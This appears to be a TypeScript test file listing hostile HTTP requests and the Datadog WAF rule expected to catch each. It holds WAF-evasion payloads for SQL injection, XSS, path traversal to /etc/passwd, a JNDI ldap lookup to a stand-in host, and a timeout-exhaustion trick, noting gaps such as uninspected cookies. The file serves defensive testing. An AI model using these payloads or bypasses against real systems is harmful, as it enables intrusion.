// Attacks as they are seen in the wild, against Datadog's recommended rules.
import {
  byRule,
  type HostileRequest,
  type Outcome,
  passes,
  type RawParts,
  row,
  targetOf,
} from './hostile-request.ts';

function wild(id: string, what: string, parts: RawParts, outcome: Outcome): HostileRequest {
  // Without a User-Agent another rule matches.
  const lines = ['user-agent: test', ...(parts.lines ?? [])];
  return row(id, what, { ...parts, lines }, outcome, { setup: 'recommended' });
}
const query = (id: string, what: string, text: string, outcome: Outcome): HostileRequest =>
  wild(id, what, { target: `${targetOf(id)}?q=${text}` }, outcome);
const path = (id: string, what: string, text: string, outcome: Outcome): HostileRequest =>
  wild(id, what, { target: `${targetOf(id)}${text}` }, outcome);
const post = (id: string, what: string, type: string, body: string, outcome: Outcome): HostileRequest =>
  wild(id, what, { method: 'POST', lines: [`content-type: ${type}`], body }, outcome);

const sqlIn = (part: string): Outcome => byRule('crs-942-100', `server.request.${part}`);
const scriptIn = (part: string): Outcome => byRule('crs-941-110', `server.request.${part}`);
const rawUri = 'server.request.uri.raw';
const script = '%3Cscript%20src=//a.example/b%3E%3C/script%3E';

export const hostileRecommended: readonly HostileRequest[] = [
  query(
    'sqli-comments',
    'SQL injection: comments instead of spaces',
    "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--",
    byRule('crs-942-270', 'server.request.query'),
  ),
  query(
    'sqli-escaped-twice',
    'SQL injection: escaped twice',
    '1%2527%2520OR%25201%253D1--%2520',
    sqlIn('query'),
  ),
  wild(
    'sqli-bare',
    'SQL injection: as a name without `=`',
    { target: `${targetOf('sqli-bare')}?1'%20OR%201%20IS%20NOT%20NULL--%20` },
    sqlIn('query'),
  ),
  wild(
    'sqli-cookie',
    'SQL injection: in a cookie',
    { lines: ['cookie: a=1%27%20OR%201%3D1--%20'] },
    passes("Datadog's SQL injection rules do not inspect cookies"),
  ),
  post(
    'sqli-json',
    "SQL injection: JSON's escapes",
    'application/json',
    '{"a":"1\\u0027 OR 1\\u003d1-- "}',
    sqlIn('body'),
  ),
  post(
    'sqli-form',
    'SQL injection: a form with `;`',
    'application/x-www-form-urlencoded',
    'a=1&b=1%27+OR+1%3D1--+',
    sqlIn('body'),
  ),
  post(
    'sqli-xml',
    'SQL injection: XML character references',
    'application/xml',
    '<a>1&#39; UNION SELECT a FROM b-- </a>',
    byRule('crs-942-270', 'server.request.body'),
  ),
  query('xss-nul', 'script: NUL inside its tag', script.replace('scr', 'scr%00'), scriptIn('query')),
  query('xss-odd-case', 'script: in odd case', script.replaceAll('script', 'sCrIpT'), scriptIn('query')),
  query('xss-escape-u', 'script: `%u003c`', script.replaceAll('%', '%u00'), scriptIn('query')),
  query('xss-overlong', 'script: overlong UTF-8', script.replaceAll('%3C', '%c0%bc'), scriptIn('query')),
  path('xss-path', 'script: in the path', script, scriptIn('path_params')),
  path('xss-path-parameter', 'script: in a parameter of the path', `;a=${script}`, scriptIn('path_params')),
  path(
    'xss-path-broken',
    'script: in the path, among broken escapes',
    `%zz${script}%`,
    scriptIn('path_params'),
  ),
  path(
    'xss-path-escaped-twice',
    'script: in the path, escaped twice',
    script.replaceAll('%', '%25'),
    scriptIn('path_params'),
  ),
  path(
    'xss-path-escape-u',
    'script: in the path, `%u003c`',
    script.replaceAll('%', '%u00'),
    scriptIn('path_params'),
  ),
  post(
    'xss-utf7',
    'script: UTF-7',
    'application/json; charset=utf-7',
    '{"a":"+ADw-script src+AD0-//a.example/b+AD4-"}',
    scriptIn('body'),
  ),
  path('traversal-plain', 'traversal: `../`', '../../../etc/passwd', byRule('crs-930-110', rawUri)),
  path(
    'traversal-escaped',
    'traversal: `..%2f`',
    '..%2f..%2f..%2fetc%2fpasswd',
    byRule('crs-930-100', rawUri),
  ),
  path(
    'traversal-escaped-twice',
    'traversal: `%252e%252e%252f`',
    '%252e%252e%252f%252e%252e%252fetc%252fpasswd',
    byRule('crs-930-100', rawUri),
  ),
  path(
    'traversal-overlong',
    'traversal: `%c0%ae%c0%ae/`',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    byRule('crs-930-100', rawUri),
  ),
  path(
    'traversal-backslashes',
    'traversal: `..\\`',
    '..\\..\\..\\windows\\win.ini',
    byRule('crs-930-110', rawUri),
  ),
  path(
    'traversal-parameters',
    'traversal: `..;/`',
    '..;/..;/manager/html',
    passes("Datadog's ruleset has no rule for it"),
  ),
  wild(
    'log4shell',
    'JNDI look-up assembled from pieces, in a header',
    { lines: ['x-any: ${${lower:j}${::-n}di:ldap://a.example/b}'] },
    byRule('sqr-000-017', 'server.request.headers.no_cookies'),
  ),
  post(
    'time-empty-texts',
    'SQL injection: after 4,500 empty strings',
    'application/json',
    JSON.stringify([...Array.from({ length: 4_500 }, () => ''), "1' OR 1=1-- "]),
    sqlIn('body'),
  ),
  post(
    'time-short-words',
    'SQL injection: after 2,400 different short words',
    'application/json',
    JSON.stringify([...Array.from({ length: 2_400 }, (_, index) => index.toString(36)), "1' OR 1=1-- "]),
    sqlIn('body'),
  ),
  query(
    'time-parameters',
    'SQL injection: after 2,000 different short parameters',
    `${Array.from({ length: 2_000 }, (_, index) => `&${index.toString(36)}=`).join('')}&a=1'%20OR%201=1--%20`,
    sqlIn('query'),
  ),
  row(
    'time-used-up',
    'SQL injection: after 1,000 strings that might be attacks, which use up the time of the WAF (`DD_APPSEC_WAF_TIMEOUT`, here 1 ms)',
    {
      method: 'POST',
      lines: ['user-agent: test', 'content-type: application/json'],
      body: JSON.stringify([...Array.from({ length: 1_000 }, (_, index) => `it's ${index}`), "1' OR 1=1-- "]),
    },
    passes('rules that were not reached are not applied; see the section on limits'),
    { setup: 'hurried' },
  ),
];
